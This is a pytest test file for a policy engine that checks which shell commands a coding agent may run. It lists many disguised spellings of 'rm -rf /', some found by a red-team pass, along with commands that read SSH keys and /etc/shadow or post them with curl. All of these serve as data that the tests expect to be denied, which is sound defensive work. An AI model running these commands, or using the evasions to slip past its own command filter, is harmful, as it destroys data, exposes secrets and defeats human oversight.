"""Command-aware rules (`runs:`, issue 26): a shell command is matched on the simple commands it would run.

The corpus (tests/policies/command_corpus.yaml) holds evasions of a rule denying `rm -rf`, which it must deny
however the command is spelled; commands a coding agent runs all day, which it must not deny and an allow rule
naming their programs must allow; and commands that cannot be resolved, which fail closed: every deny rule
with `runs:` matches them, no allow rule does. Each entry is its own test, through the Bash tool's `command`
string and through a local shell call's argv (`bash -lc COMMAND`).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from toolkeeper.policy import load_rules, policy_input

CORPUS = yaml.safe_load((Path(__file__).resolve().parent / "policies" / "command_corpus.yaml").read_text())
EVASIONS: list[str] = CORPUS["evasions"]
HARMLESS: list[dict[str, Any]] = CORPUS["harmless"]
UNRESOLVABLE: list[str] = CORPUS["unresolvable"]

NO_RM_RF = {"id": "no-rm-rf", "effect": "deny", "reason": "recursive forced deletion is not allowed"}
RUNS_RM_RF = {"runs": {"program": "rm", "flags": ["r", "f"]}}
UNRESOLVABLE_ALLOWED = ["ls", "echo", "cat", "git", "bash", "sh"]


def short(command: str, width: int = 48) -> str:
    """A test id: the command on one line, cut to `width`."""
    text = command.replace("\n", "<NL>").replace("\t", "<TAB>").replace("::", ": :")
    return text if len(text) <= width else text[:width - 3] + "..."


def ids(commands: list[str]) -> list[str]:
    seen: dict[str, int] = {}
    result = []
    for command in commands:
        name = short(command)
        seen[name] = seen.get(name, 0) + 1
        result.append(name if seen[name] == 1 else f"{name} #{seen[name]}")
    return result


def bash_rule(rule: dict[str, Any], test: dict[str, Any]) -> dict[str, Any]:
    return {**rule, "when": {"source": "agent", "tool": "Bash", "arguments": {"command": test}}}


def argv_rule(rule: dict[str, Any], test: dict[str, Any]) -> dict[str, Any]:
    return {**rule, "when": {"source": "agent", "tool": "local_shell", "arguments": {"action.command": test}}}


def allow(programs: list[str]) -> tuple[dict[str, Any], dict[str, Any]]:
    """An allow rule and its test: `runs` one of these programs."""
    return {"id": "ok", "effect": "allow"}, {"runs": {"program": list(programs)}}


def rules_file(directory: Path, name: str, *rules: dict[str, Any]):
    path = directory / f"{name}.yaml"
    path.write_text(yaml.safe_dump({"rules": list(rules)}, sort_keys=False))
    return load_rules(path)


def on_bash(rules, command: str):
    return rules.decide(policy_input("Bash", {"command": command}, None, source="agent"))


def on_argv(rules, argv: list[str]):
    return rules.decide(policy_input("local_shell", {"action": {"command": argv}}, None, source="agent",
                                     kind="local_shell_call"))


@pytest.fixture(scope="module")
def deny_rm(tmp_path_factory):
    directory = tmp_path_factory.mktemp("deny")
    return (rules_file(directory, "bash", bash_rule(NO_RM_RF, RUNS_RM_RF)),
            rules_file(directory, "argv", argv_rule(NO_RM_RF, RUNS_RM_RF)))


@pytest.fixture(scope="module")
def allow_few(tmp_path_factory):
    directory = tmp_path_factory.mktemp("allow")
    rule, test = allow(UNRESOLVABLE_ALLOWED)
    return rules_file(directory, "bash", bash_rule(rule, test)), rules_file(directory, "argv", argv_rule(rule, test))


def said(decision) -> str:
    return "no decision" if decision is None else f"{decision.effect} by {decision.rule_id}: {decision.reason}"


def test_the_corpus_is_large_enough_and_well_formed():
    assert len(EVASIONS) >= 60 and len(HARMLESS) >= 40 and len(UNRESOLVABLE) >= 10
    assert all(isinstance(command, str) and command.strip() for command in EVASIONS + UNRESOLVABLE)
    for entry in HARMLESS:
        assert set(entry) == {"command", "programs"}, entry
        assert isinstance(entry["command"], str) and entry["command"].strip(), entry
        assert entry["programs"] and all(isinstance(p, str) and p for p in entry["programs"]), entry
    commands = EVASIONS + UNRESOLVABLE + [entry["command"] for entry in HARMLESS]
    assert len(set(commands)) == len(commands), "an entry is listed twice"


@pytest.mark.parametrize("command", EVASIONS, ids=ids(EVASIONS))
def test_an_evasion_is_denied(deny_rm, command):
    decision = on_bash(deny_rm[0], command)
    assert decision is not None and decision.effect == "deny" and decision.rule_id == "no-rm-rf", said(decision)


@pytest.mark.parametrize("command", EVASIONS, ids=ids(EVASIONS))
def test_an_evasion_in_a_local_shell_argv_is_denied(deny_rm, command):
    decision = on_argv(deny_rm[1], ["bash", "-lc", command])
    assert decision is not None and decision.effect == "deny" and decision.rule_id == "no-rm-rf", said(decision)


@pytest.mark.parametrize("entry", HARMLESS, ids=ids([entry["command"] for entry in HARMLESS]))
def test_a_harmless_command_is_not_denied_and_is_allowed_by_its_programs(tmp_path, deny_rm, entry):
    command, programs = entry["command"], entry["programs"]
    assert on_bash(deny_rm[0], command) is None, said(on_bash(deny_rm[0], command))
    decision = on_bash(rules_file(tmp_path, "allow", bash_rule(*allow(programs))), command)
    assert decision is not None and decision.effect == "allow" and decision.rule_id == "ok", said(decision)


@pytest.mark.parametrize("entry", HARMLESS, ids=ids([entry["command"] for entry in HARMLESS]))
def test_a_harmless_command_in_a_local_shell_argv_is_not_denied_and_is_allowed(tmp_path, deny_rm, entry):
    argv = ["bash", "-lc", entry["command"]]
    assert on_argv(deny_rm[1], argv) is None, said(on_argv(deny_rm[1], argv))
    decision = on_argv(rules_file(tmp_path, "allow", argv_rule(*allow(entry["programs"]))), argv)
    assert decision is not None and decision.effect == "allow" and decision.rule_id == "ok", said(decision)


def says_unresolved(decision) -> bool:
    reason = decision.reason.lower()
    return "resolve" in reason or "parse" in reason


@pytest.mark.parametrize("command", UNRESOLVABLE, ids=ids(UNRESOLVABLE))
def test_an_unresolvable_command_fails_closed(deny_rm, allow_few, command):
    decision = on_bash(deny_rm[0], command)
    assert decision is not None and decision.effect == "deny" and decision.rule_id == "no-rm-rf", said(decision)
    assert says_unresolved(decision), said(decision)
    assert on_bash(allow_few[0], command) is None, said(on_bash(allow_few[0], command))


@pytest.mark.parametrize("command", UNRESOLVABLE, ids=ids(UNRESOLVABLE))
def test_an_unresolvable_command_in_a_local_shell_argv_fails_closed(deny_rm, allow_few, command):
    argv = ["bash", "-c", command]
    decision = on_argv(deny_rm[1], argv)
    assert decision is not None and decision.effect == "deny" and decision.rule_id == "no-rm-rf", said(decision)
    assert says_unresolved(decision), said(decision)
    assert on_argv(allow_few[1], argv) is None, said(on_argv(allow_few[1], argv))


# An argv is run as it is, without a shell: its entries are words, never shell text.
ARGV_DENIED = [
    ["bash", "-lc", "rm -rf /"],
    ["/bin/rm", "-r", "-f", "/"],
    ["sudo", "rm", "-rf", "/"],
    ["env", "rm", "-fr", "x"],
    ["rm", "/", "-rf"],
    ["rm", "--recursive", "--force", "--", "/"],
    ["timeout", "5", "sh", "-c", "rm -rf /"],
    ["xargs", "rm", "-rf"],
    ["find", "/", "-exec", "rm", "-rf", "{}", ";"],
    ["find", "/", "-delete"],
    ["sh", "-c", "$(echo rm) -rf /"],
]
ARGV_NOT_DENIED = [
    ["git", "status"],
    ["rm", "-r", "build"],
    ["rm", "-r", "--", "build", "-f"],
    ["echo", "rm -rf /"],  # one word: echo prints it
    ["ls", "$(rm -rf /)"],  # no shell expands it: ls is given these characters
    ["grep", "-rn", "rm -rf", "src/"],
]


@pytest.mark.parametrize("argv", ARGV_DENIED, ids=[short(" ".join(argv)) for argv in ARGV_DENIED])
def test_a_local_shell_argv_running_rm_rf_is_denied(deny_rm, argv):
    decision = on_argv(deny_rm[1], argv)
    assert decision is not None and decision.effect == "deny" and decision.rule_id == "no-rm-rf", said(decision)


@pytest.mark.parametrize("argv", ARGV_NOT_DENIED, ids=[short(" ".join(argv)) for argv in ARGV_NOT_DENIED])
def test_a_local_shell_argv_not_running_rm_rf_is_not_denied(deny_rm, argv):
    assert on_argv(deny_rm[1], argv) is None, said(on_argv(deny_rm[1], argv))


def test_a_local_shell_argv_is_allowed_by_its_program(tmp_path):
    rules = rules_file(tmp_path, "allow", argv_rule(*allow(["git"])))
    assert on_argv(rules, ["git", "status"]).effect == "allow"
    assert on_argv(rules, ["timeout", "5", "git", "status"]).effect == "allow"
    assert on_argv(rules, ["bash", "-lc", "git status && rm -rf /"]) is None
    assert on_argv(rules, ["sudo", "git", "status"]) is None  # sudo is not transparent


def test_a_declared_tools_argv_is_read_as_the_commands_it_runs(tmp_path):
    """`argv: {runs: ...}`: a declared tool whose argv starts a shell or a wrapper is matched on what it runs."""
    path = tmp_path / "argv.yaml"
    path.write_text(yaml.safe_dump({"rules": [{
        "id": "no-deletes", "effect": "deny", "reason": "this tool must not delete",
        "when": {"tool": "maintenance", "argv": {"runs": {"program": "rm"}}}}]}))
    rules = load_rules(path)

    def decided(argv: list[str]):
        return rules.decide(policy_input("maintenance", {}, argv, source="declared"))

    assert decided(["bash", "-c", "cd /srv && rm -r cache"]).rule_id == "no-deletes"
    assert decided(["timeout", "30", "env", "A=1", "/bin/rm", "x"]).rule_id == "no-deletes"
    assert decided(["bash", "-c", "$(cat cmd)"]).effect == "deny"  # unresolvable: fails closed
    assert decided(["/usr/bin/du", "-sh", "/srv/cache"]) is None


# Found by a red-team pass after the corpus: each runs rm recursively and by force in bash.
LATER_EVASIONS = [
    "cat <<X\ndon't\nX\nr\\\nm -rf /x",  # an apostrophe in a heredoc, then a line continuation inside a word
    "echo $'\\'' ; r\\\nm -rf /x",
    "echo ${x:-a #}; r\\\nm -rf /x",
    "env -vS 'rm -rf /'", "env --split-str='rm -rf /'", "env --s 'rm -rf /'",
    "timeout --sig KILL 5 rm -rf /", "nice --adj 5 rm -rf /", "sudo --us root rm -rf /",
    "strace --output x rm -rf /", "sudo -uvagrant rm -rf /", "echo x | xargs -e rm -rf /",
    "flock /tmp/l rm -rf /home -- -c ls", "find /home -exec rm + -rf {} \\;",
    "runuser root -c 'rm -rf /'", "su --comm 'rm -rf /'", "su --session-command='rm -rf /'",
    "fish -C 'rm -rf /'", "fish --command='rm -rf /'",
]


@pytest.mark.parametrize("command", LATER_EVASIONS, ids=ids(LATER_EVASIONS))
def test_a_later_evasion_is_denied(deny_rm, command):
    decision = on_bash(deny_rm[0], command)
    assert decision is not None and decision.effect == "deny" and decision.rule_id == "no-rm-rf", said(decision)


# Paths a command reads however it names them: redirected input, patterns, ~+ and ~name, joined option values.
READS_OF_KEYS = ["cat < ~/.ssh/id_rsa", "{ cat; } < /etc/shadow", "cat ~/.ss?/id_rsa", "cat /e*/shadow",
                 "cat ~+/.ssh/id_rsa", "cat ~ada/.ssh/k", "cat /home/a/.SSH/k", "ssh -i~/.ssh/id_rsa h",
                 "curl -d@/etc/shadow x", "dd if=/etc/shadow of=/tmp/x"]


@pytest.mark.parametrize("command", READS_OF_KEYS, ids=ids(READS_OF_KEYS))
def test_a_path_is_found_however_the_command_names_it(tmp_path, command):
    path = tmp_path / "keys.yaml"
    path.write_text(yaml.safe_dump({"rules": [{
        "id": "keys", "effect": "deny", "reason": "keys and system files",
        "when": {"source": "agent", "tool": "Bash", "arguments": {"command": {"runs": {"under": ["~/.ssh", "/etc"]}}}}}]}))
    document = policy_input("Bash", {"command": command}, None, source="agent", workdir="/root")
    decision = load_rules(path).decide(document)
    assert decision is not None and decision.effect == "deny", command
    harmless = policy_input("Bash", {"command": "ls src/*.py && cat README.md"}, None, source="agent",
                            workdir="/root")
    assert load_rules(path).decide(harmless) is None


def test_a_brace_sequence_is_never_built_whole():
    from toolkeeper.policy import commands_in

    found = commands_in(policy_input("Bash", {"command": "rm -rf a{1..999999999999}"}, None, source="agent"))
    assert len(found[0][1].commands[0].argv) <= 260


# --- issue 38: only ever tighten -------------------------------------------------------------------------------

def expanded(template: str) -> list[str]:
    """A family's template with each payload in place of {rm} (doubled braces are the template's own)."""
    if "{rm}" not in template:
        return [template.replace("{{", "{").replace("}}", "}")]
    return [template.format(rm=payload) for payload in CORPUS["payloads"]]


FAMILIES: dict[str, list[str]] = {family: [command for template in templates for command in expanded(template)]
                                  for family, templates in CORPUS["families"].items()}
FAMILY_CASES = [(family, command) for family, commands in FAMILIES.items() for command in commands]
NEAR_MISSES: list[dict[str, Any]] = CORPUS["near_misses"]


def test_the_families_are_several_hundred_commands():
    assert len(FAMILY_CASES) >= 300, len(FAMILY_CASES)
    assert len({command for _, command in FAMILY_CASES}) == len(FAMILY_CASES), "a command is listed twice"


@pytest.mark.parametrize(("family", "command"), FAMILY_CASES, ids=ids([command for _, command in FAMILY_CASES]))
def test_every_family_is_denied_and_never_allowed(deny_rm, allow_few, family, command):
    decision = on_bash(deny_rm[0], command)
    assert decision is not None and decision.effect == "deny" and decision.rule_id == "no-rm-rf", \
        f"{family}: {said(decision)}"
    assert on_bash(allow_few[0], command) is None, f"{family}: {said(on_bash(allow_few[0], command))}"
    decision = on_argv(deny_rm[1], ["bash", "-c", command])
    assert decision is not None and decision.effect == "deny", f"{family} (argv): {said(decision)}"


@pytest.mark.parametrize("entry", NEAR_MISSES, ids=ids([entry["command"] for entry in NEAR_MISSES]))
def test_a_near_miss_is_read_and_allowed_by_its_programs(tmp_path, deny_rm, entry):
    command = entry["command"]
    assert on_bash(deny_rm[0], command) is None, said(on_bash(deny_rm[0], command))
    decision = on_bash(rules_file(tmp_path, "allow", bash_rule(*allow(entry["programs"]))), command)
    assert decision is not None and decision.effect == "allow" and decision.rule_id == "ok", said(decision)


def test_the_reader_handles_every_node_kind_of_the_grammar():
    """Every kind of node tree-sitter-bash declares is read explicitly (grammar.NODE_KINDS); a kind the grammar
    gains in a new version fails here until it is, and meanwhile leaves the command unresolved."""
    import tree_sitter_bash
    from tree_sitter import Language

    from toolkeeper.policy.grammar import NODE_KINDS, TOKENS

    language = Language(tree_sitter_bash.language())
    visible = [kind for kind in range(language.node_kind_count) if language.node_kind_is_visible(kind)]
    named = {language.node_kind_for_id(k) for k in visible if language.node_kind_is_named(k)} - {"ERROR"}
    tokens = {language.node_kind_for_id(k) for k in visible if not language.node_kind_is_named(k)}
    assert named - set(NODE_KINDS) == set(), "named kinds the reader does not handle"
    assert set(NODE_KINDS) - named == set(), "kinds the grammar no longer declares"
    assert tokens - TOKENS == set(), "tokens the reader does not know"


def test_an_unknown_node_kind_or_odd_token_makes_the_command_unresolved(monkeypatch):
    from toolkeeper.policy import shell
    from toolkeeper.policy.commands import commands_of_script

    monkeypatch.setattr(shell, "NODE_KINDS", {k: v for k, v in shell.NODE_KINDS.items() if k != "case_item"})
    shell.parse_script.cache_clear()
    commands_of_script.cache_clear()
    try:
        found = commands_of_script("case x in a) ls;; esac")
        assert any("case_item" in why for why in found.unresolved), found
    finally:
        shell.parse_script.cache_clear()
        commands_of_script.cache_clear()
    assert any("'-rf$'" in why for why in commands_of_script('rm -rf$"" /x').unresolved)


def test_every_catalogue_entry_has_a_case_in_the_corpus():
    from toolkeeper.policy.programs import catalogue

    commands = [command for _, command in FAMILY_CASES] + [entry["command"] for entry in NEAR_MISSES] \
        + EVASIONS + UNRESOLVABLE + [entry["command"] for entry in HARMLESS]
    words = {word for command in commands for word in command.replace("'", " ").replace('"', " ").split()}
    known = catalogue()
    texts = " ".join(commands)
    missing = [name for name in [*known.programs, *known.shells] if name not in words
               and not any(word.endswith("/" + name) for word in words) and not (" " in name and name in texts)]
    assert missing == [], f"catalogue entries with no case: {missing}"


def test_inline_code_is_said_in_the_reason(deny_rm):
    decision = on_bash(deny_rm[0], "python3 -c 'import os'")
    assert "python3 -c runs code toolkeeper does not read" in decision.reason
    decision = on_bash(deny_rm[0], "awk 'BEGIN{system(\"x\")}'")
    assert "awk runs a program in another language" in decision.reason


def test_policy_explain_shows_the_commands_read_the_catalogue_entries_and_what_was_not_read(tmp_path):
    from conftest import run_cli

    rules = tmp_path / "rules.yaml"
    rules.write_text(yaml.safe_dump({"rules": [bash_rule(NO_RM_RF, RUNS_RM_RF)]}))
    command = "sudo -u root timeout 5 git status && python3 -c 'import os' | ssh host ls"
    run = run_cli("policy", "explain", "declared/example/agent.yaml", "Bash", f"command={command}",
                  "--source", "agent", "--policy", str(rules))
    assert run.returncode == 0, run.stderr
    out = run.stdout
    assert '"sudo" "-u" "root" "timeout" "5" "git" "status"' in out
    assert "read by the catalogue entry sudo: runs the command it is given" in out
    assert '"git" "status"  (via sudo timeout)' in out
    assert "read by the catalogue entry python3: code in another language in -c; code in another language on its input" in out
    assert '"ls"  (via ssh)' in out
    assert "not read: python3 -c runs code toolkeeper does not read" in out
    assert "so the command is unresolved" in out
    assert "decision: deny (rule no-rm-rf" in out
